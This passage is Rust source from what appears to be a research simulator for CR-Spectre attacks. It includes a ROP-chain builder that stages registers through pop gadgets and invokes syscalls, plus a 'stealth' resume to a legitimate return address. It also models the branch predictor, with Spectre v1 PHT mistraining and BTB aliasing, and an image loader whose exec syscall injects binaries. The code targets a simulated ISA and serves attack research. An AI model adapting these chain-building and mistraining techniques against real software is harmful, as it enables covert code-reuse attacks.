    fn canary_after_ret_panics() {
        let _ = PayloadBuilder::new(16).with_canary(16, 0);
    }

    #[test]
    fn custom_padding() {
        let p = PayloadBuilder::new(8).with_pad(0x41).build(&[]);
        assert_eq!(p, vec![0x41; 8]);
    }

    #[test]
    fn cyclic_round_trip() {
        let pat = cyclic(256);
        assert_eq!(pat.len(), 256);
        // Word at byte offset 40 is word #5.
        let w = u64::from_le_bytes(pat[40..48].try_into().unwrap());
        assert_eq!(cyclic_find(w), Some(40));
        assert_eq!(cyclic_find(0x1234), None);
    }

    #[test]
    fn cyclic_truncates_to_odd_lengths() {
        assert_eq!(cyclic(13).len(), 13);
    }

    #[test]
    fn offset_from_fetch_fault() {
        let word = u64::from_le_bytes(cyclic(96)[88..96].try_into().unwrap());
        let exit = ExitReason::Fault(Fault::Mem(MemFault { addr: word, kind: AccessKind::Fetch }));
        assert_eq!(offset_from_crash(&exit), Some(88));
        assert_eq!(offset_from_crash(&ExitReason::Halted), None);
    }
}

//! ROP-chain construction from a scanned gadget catalog.

use std::fmt;

use cr_spectre_sim::isa::Reg;

use crate::gadget::GadgetKind;
use crate::scanner::GadgetSet;

/// Chain-construction failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ChainError {
    /// The catalog has no gadget of the required kind.
    MissingGadget(GadgetKind),
}

impl fmt::Display for ChainError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ChainError::MissingGadget(k) => write!(f, "no gadget of kind {k:?} available"),
        }
    }
}

impl std::error::Error for ChainError {}

/// A return-oriented program under construction.
///
/// The chain is a sequence of 64-bit stack words. The first word overwrites
/// the victim's saved return address; each gadget's terminating `RET` pops
/// the next word. [`Chain::set_reg`] uses `pop`-gadgets to stage register
/// arguments, [`Chain::invoke`] returns into a whole function (whose own
/// `RET` continues the chain), and [`Chain::resume`] terminates the chain
/// by "returning" to a legitimate continuation address, letting the host
/// carry on as if nothing happened — the stealth property CR-Spectre needs.
///
/// # Examples
///
/// ```
/// use cr_spectre_rop::chain::Chain;
/// use cr_spectre_rop::gadget::Gadget;
/// use cr_spectre_rop::scanner::GadgetSet;
/// use cr_spectre_sim::isa::{Instr, Reg};
///
/// let set = GadgetSet::new(vec![Gadget::new(0x80, vec![Instr::Pop(Reg::R1), Instr::Ret])]);
/// let mut chain = Chain::new(&set);
/// chain.set_reg(Reg::R1, 0xdead)?;
/// chain.invoke(0x4000);
/// assert_eq!(chain.words(), &[0x80, 0xdead, 0x4000]);
/// # Ok::<(), cr_spectre_rop::chain::ChainError>(())
/// ```
#[derive(Debug, Clone)]
pub struct Chain<'a> {
    set: &'a GadgetSet,
    words: Vec<u64>,
}

impl<'a> Chain<'a> {
    /// Starts an empty chain over a gadget catalog.
    pub fn new(set: &'a GadgetSet) -> Chain<'a> {
        Chain { set, words: Vec::new() }
    }

    /// Stages `value` into `reg` via a `pop reg; ret` gadget.
    ///
    /// # Errors
    ///
    /// Returns [`ChainError::MissingGadget`] when the catalog lacks a
    /// suitable pop gadget.
    pub fn set_reg(&mut self, reg: Reg, value: u64) -> Result<&mut Self, ChainError> {
        let g = self
            .set
            .pop_reg(reg)
            .ok_or(ChainError::MissingGadget(GadgetKind::PopReg(reg)))?;
        self.words.push(g.addr);
        self.words.push(value);
        Ok(self)
    }

    /// Returns into an arbitrary address (a gadget or a whole function).
    pub fn invoke(&mut self, addr: u64) -> &mut Self {
        self.words.push(addr);
        self
    }

    /// Appends a `syscall; ret` gadget (syscall number must already be
    /// staged in `r0`).
    ///
    /// # Errors
    ///
    /// Returns [`ChainError::MissingGadget`] when no such gadget exists.
    pub fn syscall(&mut self) -> Result<&mut Self, ChainError> {
        let g = self
            .set
            .syscall_ret()
            .ok_or(ChainError::MissingGadget(GadgetKind::SyscallRet))?;
        self.words.push(g.addr);
        Ok(self)
    }

    /// Appends a raw data word (consumed by the previous gadget's pops).
    pub fn word(&mut self, value: u64) -> &mut Self {
        self.words.push(value);
        self
    }

    /// Terminates the chain with a final return target, usually a legal
    /// continuation point inside the host.
    pub fn resume(&mut self, addr: u64) -> &mut Self {
        self.words.push(addr);
        self
    }

    /// The chain as stack words (first word = return-address overwrite).
    pub fn words(&self) -> &[u64] {
        &self.words
    }

    /// Consumes the builder, yielding the stack words.
    pub fn into_words(self) -> Vec<u64> {
        self.words
    }

    /// Serializes the chain to little-endian bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        self.words.iter().flat_map(|w| w.to_le_bytes()).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gadget::Gadget;
    use cr_spectre_sim::isa::Instr;

    fn catalog() -> GadgetSet {
        GadgetSet::new(vec![
            Gadget::new(0x100, vec![Instr::Pop(Reg::R1), Instr::Ret]),
            Gadget::new(0x110, vec![Instr::Pop(Reg::R2), Instr::Ret]),
            Gadget::new(0x120, vec![Instr::Syscall, Instr::Ret]),
            Gadget::new(0x130, vec![Instr::Ret]),
        ])
    }

    #[test]
    fn builds_exec_style_chain() {
        let set = catalog();
        let mut chain = Chain::new(&set);
        chain.set_reg(Reg::R1, 0x2000).unwrap();
        chain.invoke(0x9000);
        chain.resume(0x1234);
        assert_eq!(chain.words(), &[0x100, 0x2000, 0x9000, 0x1234]);
    }

    #[test]
    fn syscall_gadget() {
        let set = catalog();
        let mut chain = Chain::new(&set);
        chain.set_reg(Reg::R2, 5).unwrap().syscall().unwrap();
        assert_eq!(chain.words(), &[0x110, 5, 0x120]);
    }

    #[test]
    fn missing_gadget_errors() {
        let set = GadgetSet::new(vec![Gadget::new(0, vec![Instr::Ret])]);
        let mut chain = Chain::new(&set);
        let err = chain.set_reg(Reg::R7, 1).unwrap_err();
        assert_eq!(err, ChainError::MissingGadget(GadgetKind::PopReg(Reg::R7)));
        assert!(!err.to_string().is_empty());
    }

    #[test]
    fn byte_serialization_is_little_endian() {
        let set = catalog();
        let mut chain = Chain::new(&set);
        chain.word(0x0102_0304_0506_0708);
        assert_eq!(chain.to_bytes(), vec![8, 7, 6, 5, 4, 3, 2, 1]);
    }
}

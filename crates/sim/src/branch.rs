//! Branch prediction structures: PHT, BTB and return-stack buffer.
//!
//! These are the structures Spectre mistrains. The pattern history table
//! (PHT) of 2-bit saturating counters drives conditional-branch prediction
//! (Spectre v1: repeatedly executing a bounds check with in-bounds indices
//! trains the counter to *strongly taken*, so the out-of-bounds run is
//! predicted down the array-access path). The return-stack buffer (RSB)
//! drives `RET` prediction and is the surface of the Spectre-RSB variant the
//! paper averages into its "Spectre variants".

/// A 2-bit saturating counter.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Counter {
    /// Strongly not-taken.
    StrongNot,
    /// Weakly not-taken.
    WeakNot,
    /// Weakly taken.
    WeakTaken,
    /// Strongly taken.
    StrongTaken,
}

impl Counter {
    /// The predicted direction.
    pub fn taken(self) -> bool {
        matches!(self, Counter::WeakTaken | Counter::StrongTaken)
    }

    /// Updates the counter with the resolved direction.
    pub fn update(self, taken: bool) -> Counter {
        match (self, taken) {
            (Counter::StrongNot, true) => Counter::WeakNot,
            (Counter::WeakNot, true) => Counter::WeakTaken,
            (Counter::WeakTaken, true) => Counter::StrongTaken,
            (Counter::StrongTaken, true) => Counter::StrongTaken,
            (Counter::StrongNot, false) => Counter::StrongNot,
            (Counter::WeakNot, false) => Counter::StrongNot,
            (Counter::WeakTaken, false) => Counter::WeakNot,
            (Counter::StrongTaken, false) => Counter::WeakTaken,
        }
    }
}

/// Pattern history table of 2-bit counters indexed by branch PC.
#[derive(Debug, Clone)]
pub struct PatternHistoryTable {
    counters: Vec<Counter>,
    mask: u64,
}

impl PatternHistoryTable {
    /// Creates a PHT with `entries` counters, all initialized weakly
    /// not-taken.
    ///
    /// # Panics
    ///
    /// Panics if `entries` is not a power of two.
    pub fn new(entries: usize) -> PatternHistoryTable {
        assert!(entries.is_power_of_two(), "PHT entries must be a power of two");
        PatternHistoryTable {
            counters: vec![Counter::WeakNot; entries],
            mask: entries as u64 - 1,
        }
    }

    fn index(&self, pc: u64) -> usize {
        // Instructions are 8 bytes; drop the alignment bits before hashing.
        (((pc >> 3) ^ (pc >> 13)) & self.mask) as usize
    }

    /// Predicts the direction of the branch at `pc`.
    pub fn predict(&self, pc: u64) -> bool {
        self.counters[self.index(pc)].taken()
    }

    /// Trains the entry for `pc` with the resolved direction.
    pub fn update(&mut self, pc: u64, taken: bool) {
        let i = self.index(pc);
        self.counters[i] = self.counters[i].update(taken);
    }
}

/// Branch target buffer for indirect jumps and calls.
#[derive(Debug, Clone)]
pub struct BranchTargetBuffer {
    entries: Vec<Option<(u64, u64)>>,
    mask: u64,
}

impl BranchTargetBuffer {
    /// Creates a BTB with `entries` slots.
    ///
    /// # Panics
    ///
    /// Panics if `entries` is not a power of two.
    pub fn new(entries: usize) -> BranchTargetBuffer {
        assert!(entries.is_power_of_two(), "BTB entries must be a power of two");
        BranchTargetBuffer { entries: vec![None; entries], mask: entries as u64 - 1 }
    }

    fn index(&self, pc: u64) -> usize {
        (((pc >> 3) ^ (pc >> 11)) & self.mask) as usize
    }

    /// Predicted target of the indirect branch at `pc`, if a prior
    /// resolution was recorded for this (possibly aliased) slot.
    pub fn predict(&self, pc: u64) -> Option<u64> {
        match self.entries[self.index(pc)] {
            Some((tag, target)) if tag == pc => Some(target),
            // Aliased entry: real BTBs use partial tags, so an attacker can
            // inject targets from congruent addresses (Spectre v2 surface).
            Some((_, target)) => Some(target),
            None => None,
        }
    }

    /// Records the resolved target of the indirect branch at `pc`.
    pub fn update(&mut self, pc: u64, target: u64) {
        let i = self.index(pc);
        self.entries[i] = Some((pc, target));
    }
}

/// Fixed-depth return-stack buffer.
///
/// `CALL` pushes the return address; `RET` pops the prediction. Overflows
/// wrap (overwriting the oldest entry) and underflows return `None`, both
/// as on real hardware. A `RET` whose architectural target differs from the
/// RSB prediction (e.g., after a stack overwrite) *mispredicts* and
/// transiently executes at the stale predicted address.
#[derive(Debug, Clone)]
pub struct ReturnStackBuffer {
    ring: Vec<u64>,
    top: usize,
    depth: usize,
}

impl ReturnStackBuffer {
    /// Creates an RSB holding `capacity` return addresses.
    ///
    /// # Panics
    ///
    /// Panics if `capacity == 0`.
    pub fn new(capacity: usize) -> ReturnStackBuffer {
        assert!(capacity > 0, "RSB capacity must be nonzero");
        ReturnStackBuffer { ring: vec![0; capacity], top: 0, depth: 0 }
    }

    /// Pushes a return address (on `CALL`).
    pub fn push(&mut self, addr: u64) {
        self.ring[self.top] = addr;
        // Compare-and-wrap instead of `%`: a ring step is the hottest
        // predictor operation (every CALL/RET) and integer division is an
        // order of magnitude slower than a predictable branch.
        self.top += 1;
        if self.top == self.ring.len() {
            self.top = 0;
        }
        self.depth = (self.depth + 1).min(self.ring.len());
    }

    /// Pops the predicted return address (on `RET`); `None` when empty.
    pub fn pop(&mut self) -> Option<u64> {
        if self.depth == 0 {
            return None;
        }
        self.top = if self.top == 0 { self.ring.len() - 1 } else { self.top - 1 };
        self.depth -= 1;
        Some(self.ring[self.top])
    }

    /// Number of live entries.
    pub fn len(&self) -> usize {
        self.depth
    }

    /// Whether the RSB holds no entries.
    pub fn is_empty(&self) -> bool {
        self.depth == 0
    }
}

/// The machine's full prediction state.
#[derive(Debug, Clone)]
pub struct Predictor {
    /// Conditional-branch direction predictor.
    pub pht: PatternHistoryTable,
    /// Indirect-branch target predictor.
    pub btb: BranchTargetBuffer,
    /// Return-address predictor.
    pub rsb: ReturnStackBuffer,
}

impl Predictor {
    /// Creates a predictor with typical sizes (1024-entry PHT, 256-entry
    /// BTB, 16-deep RSB).
    pub fn new() -> Predictor {
        Predictor {
            pht: PatternHistoryTable::new(1024),
            btb: BranchTargetBuffer::new(256),
            rsb: ReturnStackBuffer::new(16),
        }
    }
}

impl Default for Predictor {
    fn default() -> Predictor {
        Predictor::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_saturates() {
        let mut c = Counter::WeakNot;
        for _ in 0..10 {
            c = c.update(true);
        }
        assert_eq!(c, Counter::StrongTaken);
        c = c.update(false);
        assert_eq!(c, Counter::WeakTaken);
        assert!(c.taken(), "one not-taken does not flip a trained counter");
    }

    #[test]
    fn pht_mistraining() {
        // The Spectre v1 precondition: training taken N times makes the
        // next prediction taken even though the actual outcome will differ.
        let mut pht = PatternHistoryTable::new(64);
        let pc = 0x4000;
        assert!(!pht.predict(pc), "initial state predicts not-taken");
        for _ in 0..5 {
            pht.update(pc, true);
        }
        assert!(pht.predict(pc), "mistrained to taken");
    }

    #[test]
    fn pht_entries_are_independent_enough() {
        let mut pht = PatternHistoryTable::new(1024);
        pht.update(0x1000, true);
        pht.update(0x1000, true);
        assert!(pht.predict(0x1000));
        assert!(!pht.predict(0x1008), "adjacent instruction unaffected");
    }

    #[test]
    fn btb_predicts_last_target() {
        let mut btb = BranchTargetBuffer::new(64);
        assert_eq!(btb.predict(0x2000), None);
        btb.update(0x2000, 0x9000);
        assert_eq!(btb.predict(0x2000), Some(0x9000));
        btb.update(0x2000, 0xa000);
        assert_eq!(btb.predict(0x2000), Some(0xa000));
    }

    #[test]
    fn rsb_lifo_order() {
        let mut rsb = ReturnStackBuffer::new(4);
        rsb.push(1);
        rsb.push(2);
        rsb.push(3);
        assert_eq!(rsb.pop(), Some(3));
        assert_eq!(rsb.pop(), Some(2));
        assert_eq!(rsb.pop(), Some(1));
        assert_eq!(rsb.pop(), None);
    }

    #[test]
    fn rsb_overflow_wraps() {
        let mut rsb = ReturnStackBuffer::new(2);
        rsb.push(1);
        rsb.push(2);
        rsb.push(3); // overwrites 1
        assert_eq!(rsb.len(), 2);
        assert_eq!(rsb.pop(), Some(3));
        assert_eq!(rsb.pop(), Some(2));
        assert_eq!(rsb.pop(), None, "entry 1 was lost to the wrap");
    }

    #[test]
    fn rsb_is_empty() {
        let mut rsb = ReturnStackBuffer::new(2);
        assert!(rsb.is_empty());
        rsb.push(7);
        assert!(!rsb.is_empty());
    }
}

//! Executable image format: segments, symbols and relocations.
//!
//! An [`Image`] is the simulator's analogue of a linked ELF binary: a set of
//! byte segments with page permissions, a symbol table, an entry point, and
//! relocation records that let the loader rebase absolute addresses when
//! ASLR slides the image. Images are built by the `cr-spectre-asm`
//! assembler and registered with a machine so the `exec` system call can
//! inject them at runtime — the paper's ROP chain ends in exactly such an
//! `execve`-style injection.

use std::collections::BTreeMap;
use std::fmt;

use crate::mem::Perms;

/// Classification of a segment (affects default permissions and gadget
/// scanning, which only looks at executable segments).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SegKind {
    /// Executable code (`r-x`).
    Text,
    /// Read-only data (`r--`).
    Rodata,
    /// Mutable data (`rw-`).
    Data,
}

impl SegKind {
    /// The default permissions for this kind under DEP/W^X.
    pub fn default_perms(self) -> Perms {
        match self {
            SegKind::Text => Perms::RX,
            SegKind::Rodata => Perms::R,
            SegKind::Data => Perms::RW,
        }
    }
}

/// One contiguous segment of an image.
#[derive(Debug, Clone)]
pub struct ImageSegment {
    /// Segment name (e.g. `.text`).
    pub name: String,
    /// Segment classification.
    pub kind: SegKind,
    /// Image-relative load offset.
    pub offset: u64,
    /// Raw contents.
    pub bytes: Vec<u8>,
}

/// Kind of relocation field.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RelocKind {
    /// A 32-bit immediate field holding an absolute guest address
    /// (the `imm32` slot of an encoded instruction).
    Imm32,
    /// A 64-bit little-endian absolute address in a data segment.
    Abs64,
}

/// A relocation record: "the field at image-relative `at` must hold
/// `image_base + addend` once the image is placed".
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Reloc {
    /// Image-relative byte position of the field to patch.
    pub at: u64,
    /// Image-relative target address the field refers to.
    pub addend: u64,
    /// Field width/interpretation.
    pub kind: RelocKind,
}

/// A linked executable image.
///
/// # Examples
///
/// ```
/// use cr_spectre_sim::image::{Image, ImageSegment, SegKind};
///
/// let image = Image::new(
///     "demo",
///     vec![ImageSegment {
///         name: ".text".into(),
///         kind: SegKind::Text,
///         offset: 0,
///         bytes: cr_spectre_sim::isa::Instr::Halt.encode().to_vec(),
///     }],
///     0,
/// );
/// assert_eq!(image.size(), cr_spectre_sim::mem::PAGE_SIZE);
/// ```
#[derive(Debug, Clone)]
pub struct Image {
    /// Binary name used by the `exec` syscall registry.
    pub name: String,
    /// Load segments, each placed at `base + offset`.
    pub segments: Vec<ImageSegment>,
    /// Symbol table: name → image-relative address.
    pub symbols: BTreeMap<String, u64>,
    /// Relocation records applied at load time.
    pub relocs: Vec<Reloc>,
    /// Image-relative entry point.
    pub entry: u64,
}

impl Image {
    /// Creates an image from segments and an entry offset.
    pub fn new(name: impl Into<String>, segments: Vec<ImageSegment>, entry: u64) -> Image {
        Image {
            name: name.into(),
            segments,
            symbols: BTreeMap::new(),
            relocs: Vec::new(),
            entry,
        }
    }

    /// Total footprint in bytes, rounded up to a whole page.
    pub fn size(&self) -> u64 {
        let end = self
            .segments
            .iter()
            .map(|s| s.offset + s.bytes.len() as u64)
            .max()
            .unwrap_or(0);
        end.div_ceil(crate::mem::PAGE_SIZE) * crate::mem::PAGE_SIZE
    }

    /// Looks up a symbol's image-relative address.
    pub fn symbol(&self, name: &str) -> Option<u64> {
        self.symbols.get(name).copied()
    }
}

impl fmt::Display for Image {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "image {} ({} bytes, entry {:#x})", self.name, self.size(), self.entry)?;
        for seg in &self.segments {
            writeln!(
                f,
                "  {:>8} {:?} offset {:#x} len {:#x}",
                seg.name,
                seg.kind,
                seg.offset,
                seg.bytes.len()
            )?;
        }
        Ok(())
    }
}

/// The result of placing an image in guest memory.
#[derive(Debug, Clone)]
pub struct LoadedImage {
    /// Name of the loaded image.
    pub name: String,
    /// Guest base address it was placed at.
    pub base: u64,
    /// Absolute entry point.
    pub entry: u64,
    /// Absolute symbol addresses.
    pub symbols: BTreeMap<String, u64>,
    /// Absolute `[start, end)` ranges of executable bytes (for gadget
    /// scanning).
    pub exec_ranges: Vec<(u64, u64)>,
}

impl LoadedImage {
    /// Absolute address of `name`.
    ///
    /// # Panics
    ///
    /// Panics when the symbol does not exist — loader-resolved symbols are
    /// a programming contract, not runtime input.
    pub fn addr(&self, name: &str) -> u64 {
        match self.symbols.get(name) {
            Some(&a) => a,
            None => panic!("undefined symbol {name:?} in image {}", self.name),
        }
    }

    /// Absolute address of `name`, or `None`.
    pub fn try_addr(&self, name: &str) -> Option<u64> {
        self.symbols.get(name).copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::isa::Instr;

    fn demo_image() -> Image {
        let text = ImageSegment {
            name: ".text".into(),
            kind: SegKind::Text,
            offset: 0,
            bytes: Instr::Halt.encode().to_vec(),
        };
        let data = ImageSegment {
            name: ".data".into(),
            kind: SegKind::Data,
            offset: 0x2000,
            bytes: vec![1, 2, 3],
        };
        let mut img = Image::new("demo", vec![text, data], 0);
        img.symbols.insert("main".into(), 0);
        img.symbols.insert("stuff".into(), 0x2000);
        img
    }

    #[test]
    fn size_covers_all_segments() {
        let img = demo_image();
        assert_eq!(img.size(), 0x3000);
    }

    #[test]
    fn empty_image_size_is_zero() {
        let img = Image::new("empty", vec![], 0);
        assert_eq!(img.size(), 0);
    }

    #[test]
    fn symbol_lookup() {
        let img = demo_image();
        assert_eq!(img.symbol("stuff"), Some(0x2000));
        assert_eq!(img.symbol("missing"), None);
    }

    #[test]
    fn seg_kind_perms() {
        assert_eq!(SegKind::Text.default_perms(), Perms::RX);
        assert_eq!(SegKind::Data.default_perms(), Perms::RW);
        assert!(!SegKind::Data.default_perms().x, "DEP: data is never executable");
    }

    #[test]
    fn display_mentions_segments() {
        let s = demo_image().to_string();
        assert!(s.contains(".text"));
        assert!(s.contains(".data"));
    }

    #[test]
    #[should_panic(expected = "undefined symbol")]
    fn loaded_image_addr_panics_on_missing() {
        let li = LoadedImage {
            name: "x".into(),
            base: 0,
            entry: 0,
            symbols: BTreeMap::new(),
            exec_ranges: vec![],
        };
        let _ = li.addr("nope");
    }
}

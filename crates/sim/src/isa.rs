//! Instruction-set architecture of the simulated machine.
//!
//! The guest ISA is a 64-bit RISC-style instruction set with a **fixed
//! 8-byte encoding**: `[opcode, rd, rs1, rs2, imm32le]`. The fixed width
//! keeps the decoder trivial and makes return-oriented-programming gadget
//! scanning (see the `cr-spectre-rop` crate) a well-defined suffix search
//! over executable pages, which mirrors how `ret`-terminated byte sequences
//! are harvested from x86 binaries.
//!
//! # Examples
//!
//! ```
//! use cr_spectre_sim::isa::{AluOp, Instr, Reg};
//!
//! let instr = Instr::Alui(AluOp::Add, Reg::R1, Reg::R1, 42);
//! let bytes = instr.encode();
//! assert_eq!(Instr::decode(&bytes)?, instr);
//! # Ok::<(), cr_spectre_sim::isa::DecodeError>(())
//! ```

use std::fmt;

/// Width of every encoded instruction in bytes.
pub const INSTR_BYTES: usize = 8;

/// A general-purpose register.
///
/// The machine has sixteen 64-bit general-purpose registers. By software
/// convention [`Reg::SP`] (`r15`) is the stack pointer used by
/// `PUSH`/`POP`/`CALL`/`RET`, and `r14` is the assembler scratch register.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[allow(missing_docs)] // the sixteen numbered registers document themselves
pub enum Reg {
    R0,
    R1,
    R2,
    R3,
    R4,
    R5,
    R6,
    R7,
    R8,
    R9,
    R10,
    R11,
    R12,
    R13,
    R14,
    R15,
}

impl Reg {
    /// The stack pointer by calling convention (`r15`).
    pub const SP: Reg = Reg::R15;
    /// The assembler scratch register (`r14`).
    pub const SCRATCH: Reg = Reg::R14;

    /// All sixteen registers in index order.
    pub const ALL: [Reg; 16] = [
        Reg::R0,
        Reg::R1,
        Reg::R2,
        Reg::R3,
        Reg::R4,
        Reg::R5,
        Reg::R6,
        Reg::R7,
        Reg::R8,
        Reg::R9,
        Reg::R10,
        Reg::R11,
        Reg::R12,
        Reg::R13,
        Reg::R14,
        Reg::R15,
    ];

    /// Returns the register's index in `0..16`.
    pub fn index(self) -> usize {
        self as usize
    }

    /// Builds a register from an index.
    ///
    /// Returns `None` when `idx >= 16`.
    pub fn from_index(idx: u8) -> Option<Reg> {
        Reg::ALL.get(idx as usize).copied()
    }
}

impl fmt::Display for Reg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if *self == Reg::SP {
            write!(f, "sp")
        } else {
            write!(f, "r{}", self.index())
        }
    }
}

/// Binary ALU operation selector used by [`Instr::Alu`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AluOp {
    /// Wrapping addition.
    Add,
    /// Wrapping subtraction.
    Sub,
    /// Wrapping multiplication.
    Mul,
    /// Unsigned division; division by zero yields all-ones.
    Divu,
    /// Unsigned remainder; remainder by zero yields the dividend.
    Remu,
    /// Bitwise AND.
    And,
    /// Bitwise OR.
    Or,
    /// Bitwise XOR.
    Xor,
    /// Logical shift left (by `rhs & 63`).
    Shl,
    /// Logical shift right (by `rhs & 63`).
    Shr,
    /// Arithmetic shift right (by `rhs & 63`).
    Sar,
}

impl AluOp {
    const ALL: [AluOp; 11] = [
        AluOp::Add,
        AluOp::Sub,
        AluOp::Mul,
        AluOp::Divu,
        AluOp::Remu,
        AluOp::And,
        AluOp::Or,
        AluOp::Xor,
        AluOp::Shl,
        AluOp::Shr,
        AluOp::Sar,
    ];

    /// Applies the operation to two 64-bit values.
    pub fn apply(self, lhs: u64, rhs: u64) -> u64 {
        match self {
            AluOp::Add => lhs.wrapping_add(rhs),
            AluOp::Sub => lhs.wrapping_sub(rhs),
            AluOp::Mul => lhs.wrapping_mul(rhs),
            AluOp::Divu => lhs.checked_div(rhs).unwrap_or(u64::MAX),
            AluOp::Remu => {
                if rhs == 0 {
                    lhs
                } else {
                    lhs % rhs
                }
            }
            AluOp::And => lhs & rhs,
            AluOp::Or => lhs | rhs,
            AluOp::Xor => lhs ^ rhs,
            AluOp::Shl => lhs << (rhs & 63),
            AluOp::Shr => lhs >> (rhs & 63),
            AluOp::Sar => ((lhs as i64) >> (rhs & 63)) as u64,
        }
    }

    fn mnemonic(self) -> &'static str {
        match self {
            AluOp::Add => "add",
            AluOp::Sub => "sub",
            AluOp::Mul => "mul",
            AluOp::Divu => "divu",
            AluOp::Remu => "remu",
            AluOp::And => "and",
            AluOp::Or => "or",
            AluOp::Xor => "xor",
            AluOp::Shl => "shl",
            AluOp::Shr => "shr",
            AluOp::Sar => "sar",
        }
    }
}

/// Condition selector for conditional branches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BranchCond {
    /// Branch if equal.
    Eq,
    /// Branch if not equal.
    Ne,
    /// Branch if signed less-than.
    Lt,
    /// Branch if signed greater-or-equal.
    Ge,
    /// Branch if unsigned less-than.
    Ltu,
    /// Branch if unsigned greater-or-equal.
    Geu,
}

impl BranchCond {
    const ALL: [BranchCond; 6] = [
        BranchCond::Eq,
        BranchCond::Ne,
        BranchCond::Lt,
        BranchCond::Ge,
        BranchCond::Ltu,
        BranchCond::Geu,
    ];

    /// Evaluates the condition over two register values.
    pub fn holds(self, lhs: u64, rhs: u64) -> bool {
        match self {
            BranchCond::Eq => lhs == rhs,
            BranchCond::Ne => lhs != rhs,
            BranchCond::Lt => (lhs as i64) < (rhs as i64),
            BranchCond::Ge => (lhs as i64) >= (rhs as i64),
            BranchCond::Ltu => lhs < rhs,
            BranchCond::Geu => lhs >= rhs,
        }
    }

    fn mnemonic(self) -> &'static str {
        match self {
            BranchCond::Eq => "beq",
            BranchCond::Ne => "bne",
            BranchCond::Lt => "blt",
            BranchCond::Ge => "bge",
            BranchCond::Ltu => "bltu",
            BranchCond::Geu => "bgeu",
        }
    }
}

/// Memory access width for loads and stores.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Width {
    /// One byte, zero-extended on load.
    B,
    /// Four bytes (little-endian), zero-extended on load.
    W,
    /// Eight bytes (little-endian).
    D,
}

impl Width {
    /// Number of bytes moved by an access of this width.
    pub fn bytes(self) -> usize {
        match self {
            Width::B => 1,
            Width::W => 4,
            Width::D => 8,
        }
    }

    fn suffix(self) -> &'static str {
        match self {
            Width::B => "b",
            Width::W => "w",
            Width::D => "d",
        }
    }
}

/// A decoded machine instruction.
///
/// Immediate operands are `i32` in the encoding; address-forming immediates
/// are sign-extended to 64 bits at execution time. Branch and call offsets
/// are **relative to the address of the branch instruction itself**.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Instr {
    /// No operation.
    Nop,
    /// Stop the machine.
    Halt,
    /// `rd = imm` (sign-extended).
    Ldi(Reg, i32),
    /// `rd = (imm as u32 as u64) << 32 | (rd & 0xffff_ffff)` — set upper half.
    Ldih(Reg, i32),
    /// `rd = rs`.
    Mov(Reg, Reg),
    /// `rd = op(rs1, rs2)`.
    Alu(AluOp, Reg, Reg, Reg),
    /// `rd = op(rs1, imm)` (immediate sign-extended).
    Alui(AluOp, Reg, Reg, i32),
    /// `rd = width-load(mem[rs1 + imm])`.
    Ld(Width, Reg, Reg, i32),
    /// `mem[rs1 + imm] = width-store(rs2)`.
    St(Width, Reg, Reg, i32),
    /// Conditional branch: `if cond(rs1, rs2) pc += imm`.
    Br(BranchCond, Reg, Reg, i32),
    /// Unconditional relative jump: `pc += imm`.
    Jmp(i32),
    /// Indirect jump: `pc = rs`.
    JmpR(Reg),
    /// Relative call: push return address, `pc += imm`.
    Call(i32),
    /// Indirect call: push return address, `pc = rs`.
    CallR(Reg),
    /// Return: pop the return address into `pc`.
    Ret,
    /// Push `rs` (SP decrements by 8 first).
    Push(Reg),
    /// Pop into `rd` (SP increments by 8 after).
    Pop(Reg),
    /// Flush the cache line containing `rs1 + imm` from the hierarchy.
    ClFlush(Reg, i32),
    /// Memory fence: serializes, draining outstanding effects.
    MFence,
    /// `rd = current cycle count` (the covert-channel timer).
    Rdtsc(Reg),
    /// System call; number in `r0`, arguments in `r1..=r3`, result in `r0`.
    Syscall,
}

/// Error produced when a byte sequence does not decode to an instruction.
///
/// Carries the offending opcode byte; used by the gadget scanner to skip
/// non-instruction bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DecodeError {
    /// The opcode byte that failed to decode.
    pub opcode: u8,
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid instruction encoding (opcode {:#04x})", self.opcode)
    }
}

impl std::error::Error for DecodeError {}

// Opcode space layout. Contiguous blocks per family keep decode branch-free.
const OP_NOP: u8 = 0x00;
const OP_HALT: u8 = 0x01;
const OP_LDI: u8 = 0x02;
const OP_LDIH: u8 = 0x03;
const OP_MOV: u8 = 0x04;
const OP_ALU_BASE: u8 = 0x10; // 11 ops: 0x10..=0x1a
const OP_ALUI_BASE: u8 = 0x20; // 11 ops: 0x20..=0x2a
const OP_LD_BASE: u8 = 0x30; // 3 widths: 0x30..=0x32
const OP_ST_BASE: u8 = 0x33; // 3 widths: 0x33..=0x35
const OP_BR_BASE: u8 = 0x40; // 6 conds: 0x40..=0x45
const OP_JMP: u8 = 0x46;
const OP_JMPR: u8 = 0x47;
const OP_CALL: u8 = 0x48;
const OP_CALLR: u8 = 0x49;
const OP_RET: u8 = 0x4a;
const OP_PUSH: u8 = 0x4b;
const OP_POP: u8 = 0x4c;
const OP_CLFLUSH: u8 = 0x50;
const OP_MFENCE: u8 = 0x51;
const OP_RDTSC: u8 = 0x52;
const OP_SYSCALL: u8 = 0x53;

impl Instr {
    /// Encodes the instruction to its fixed 8-byte form.
    pub fn encode(&self) -> [u8; INSTR_BYTES] {
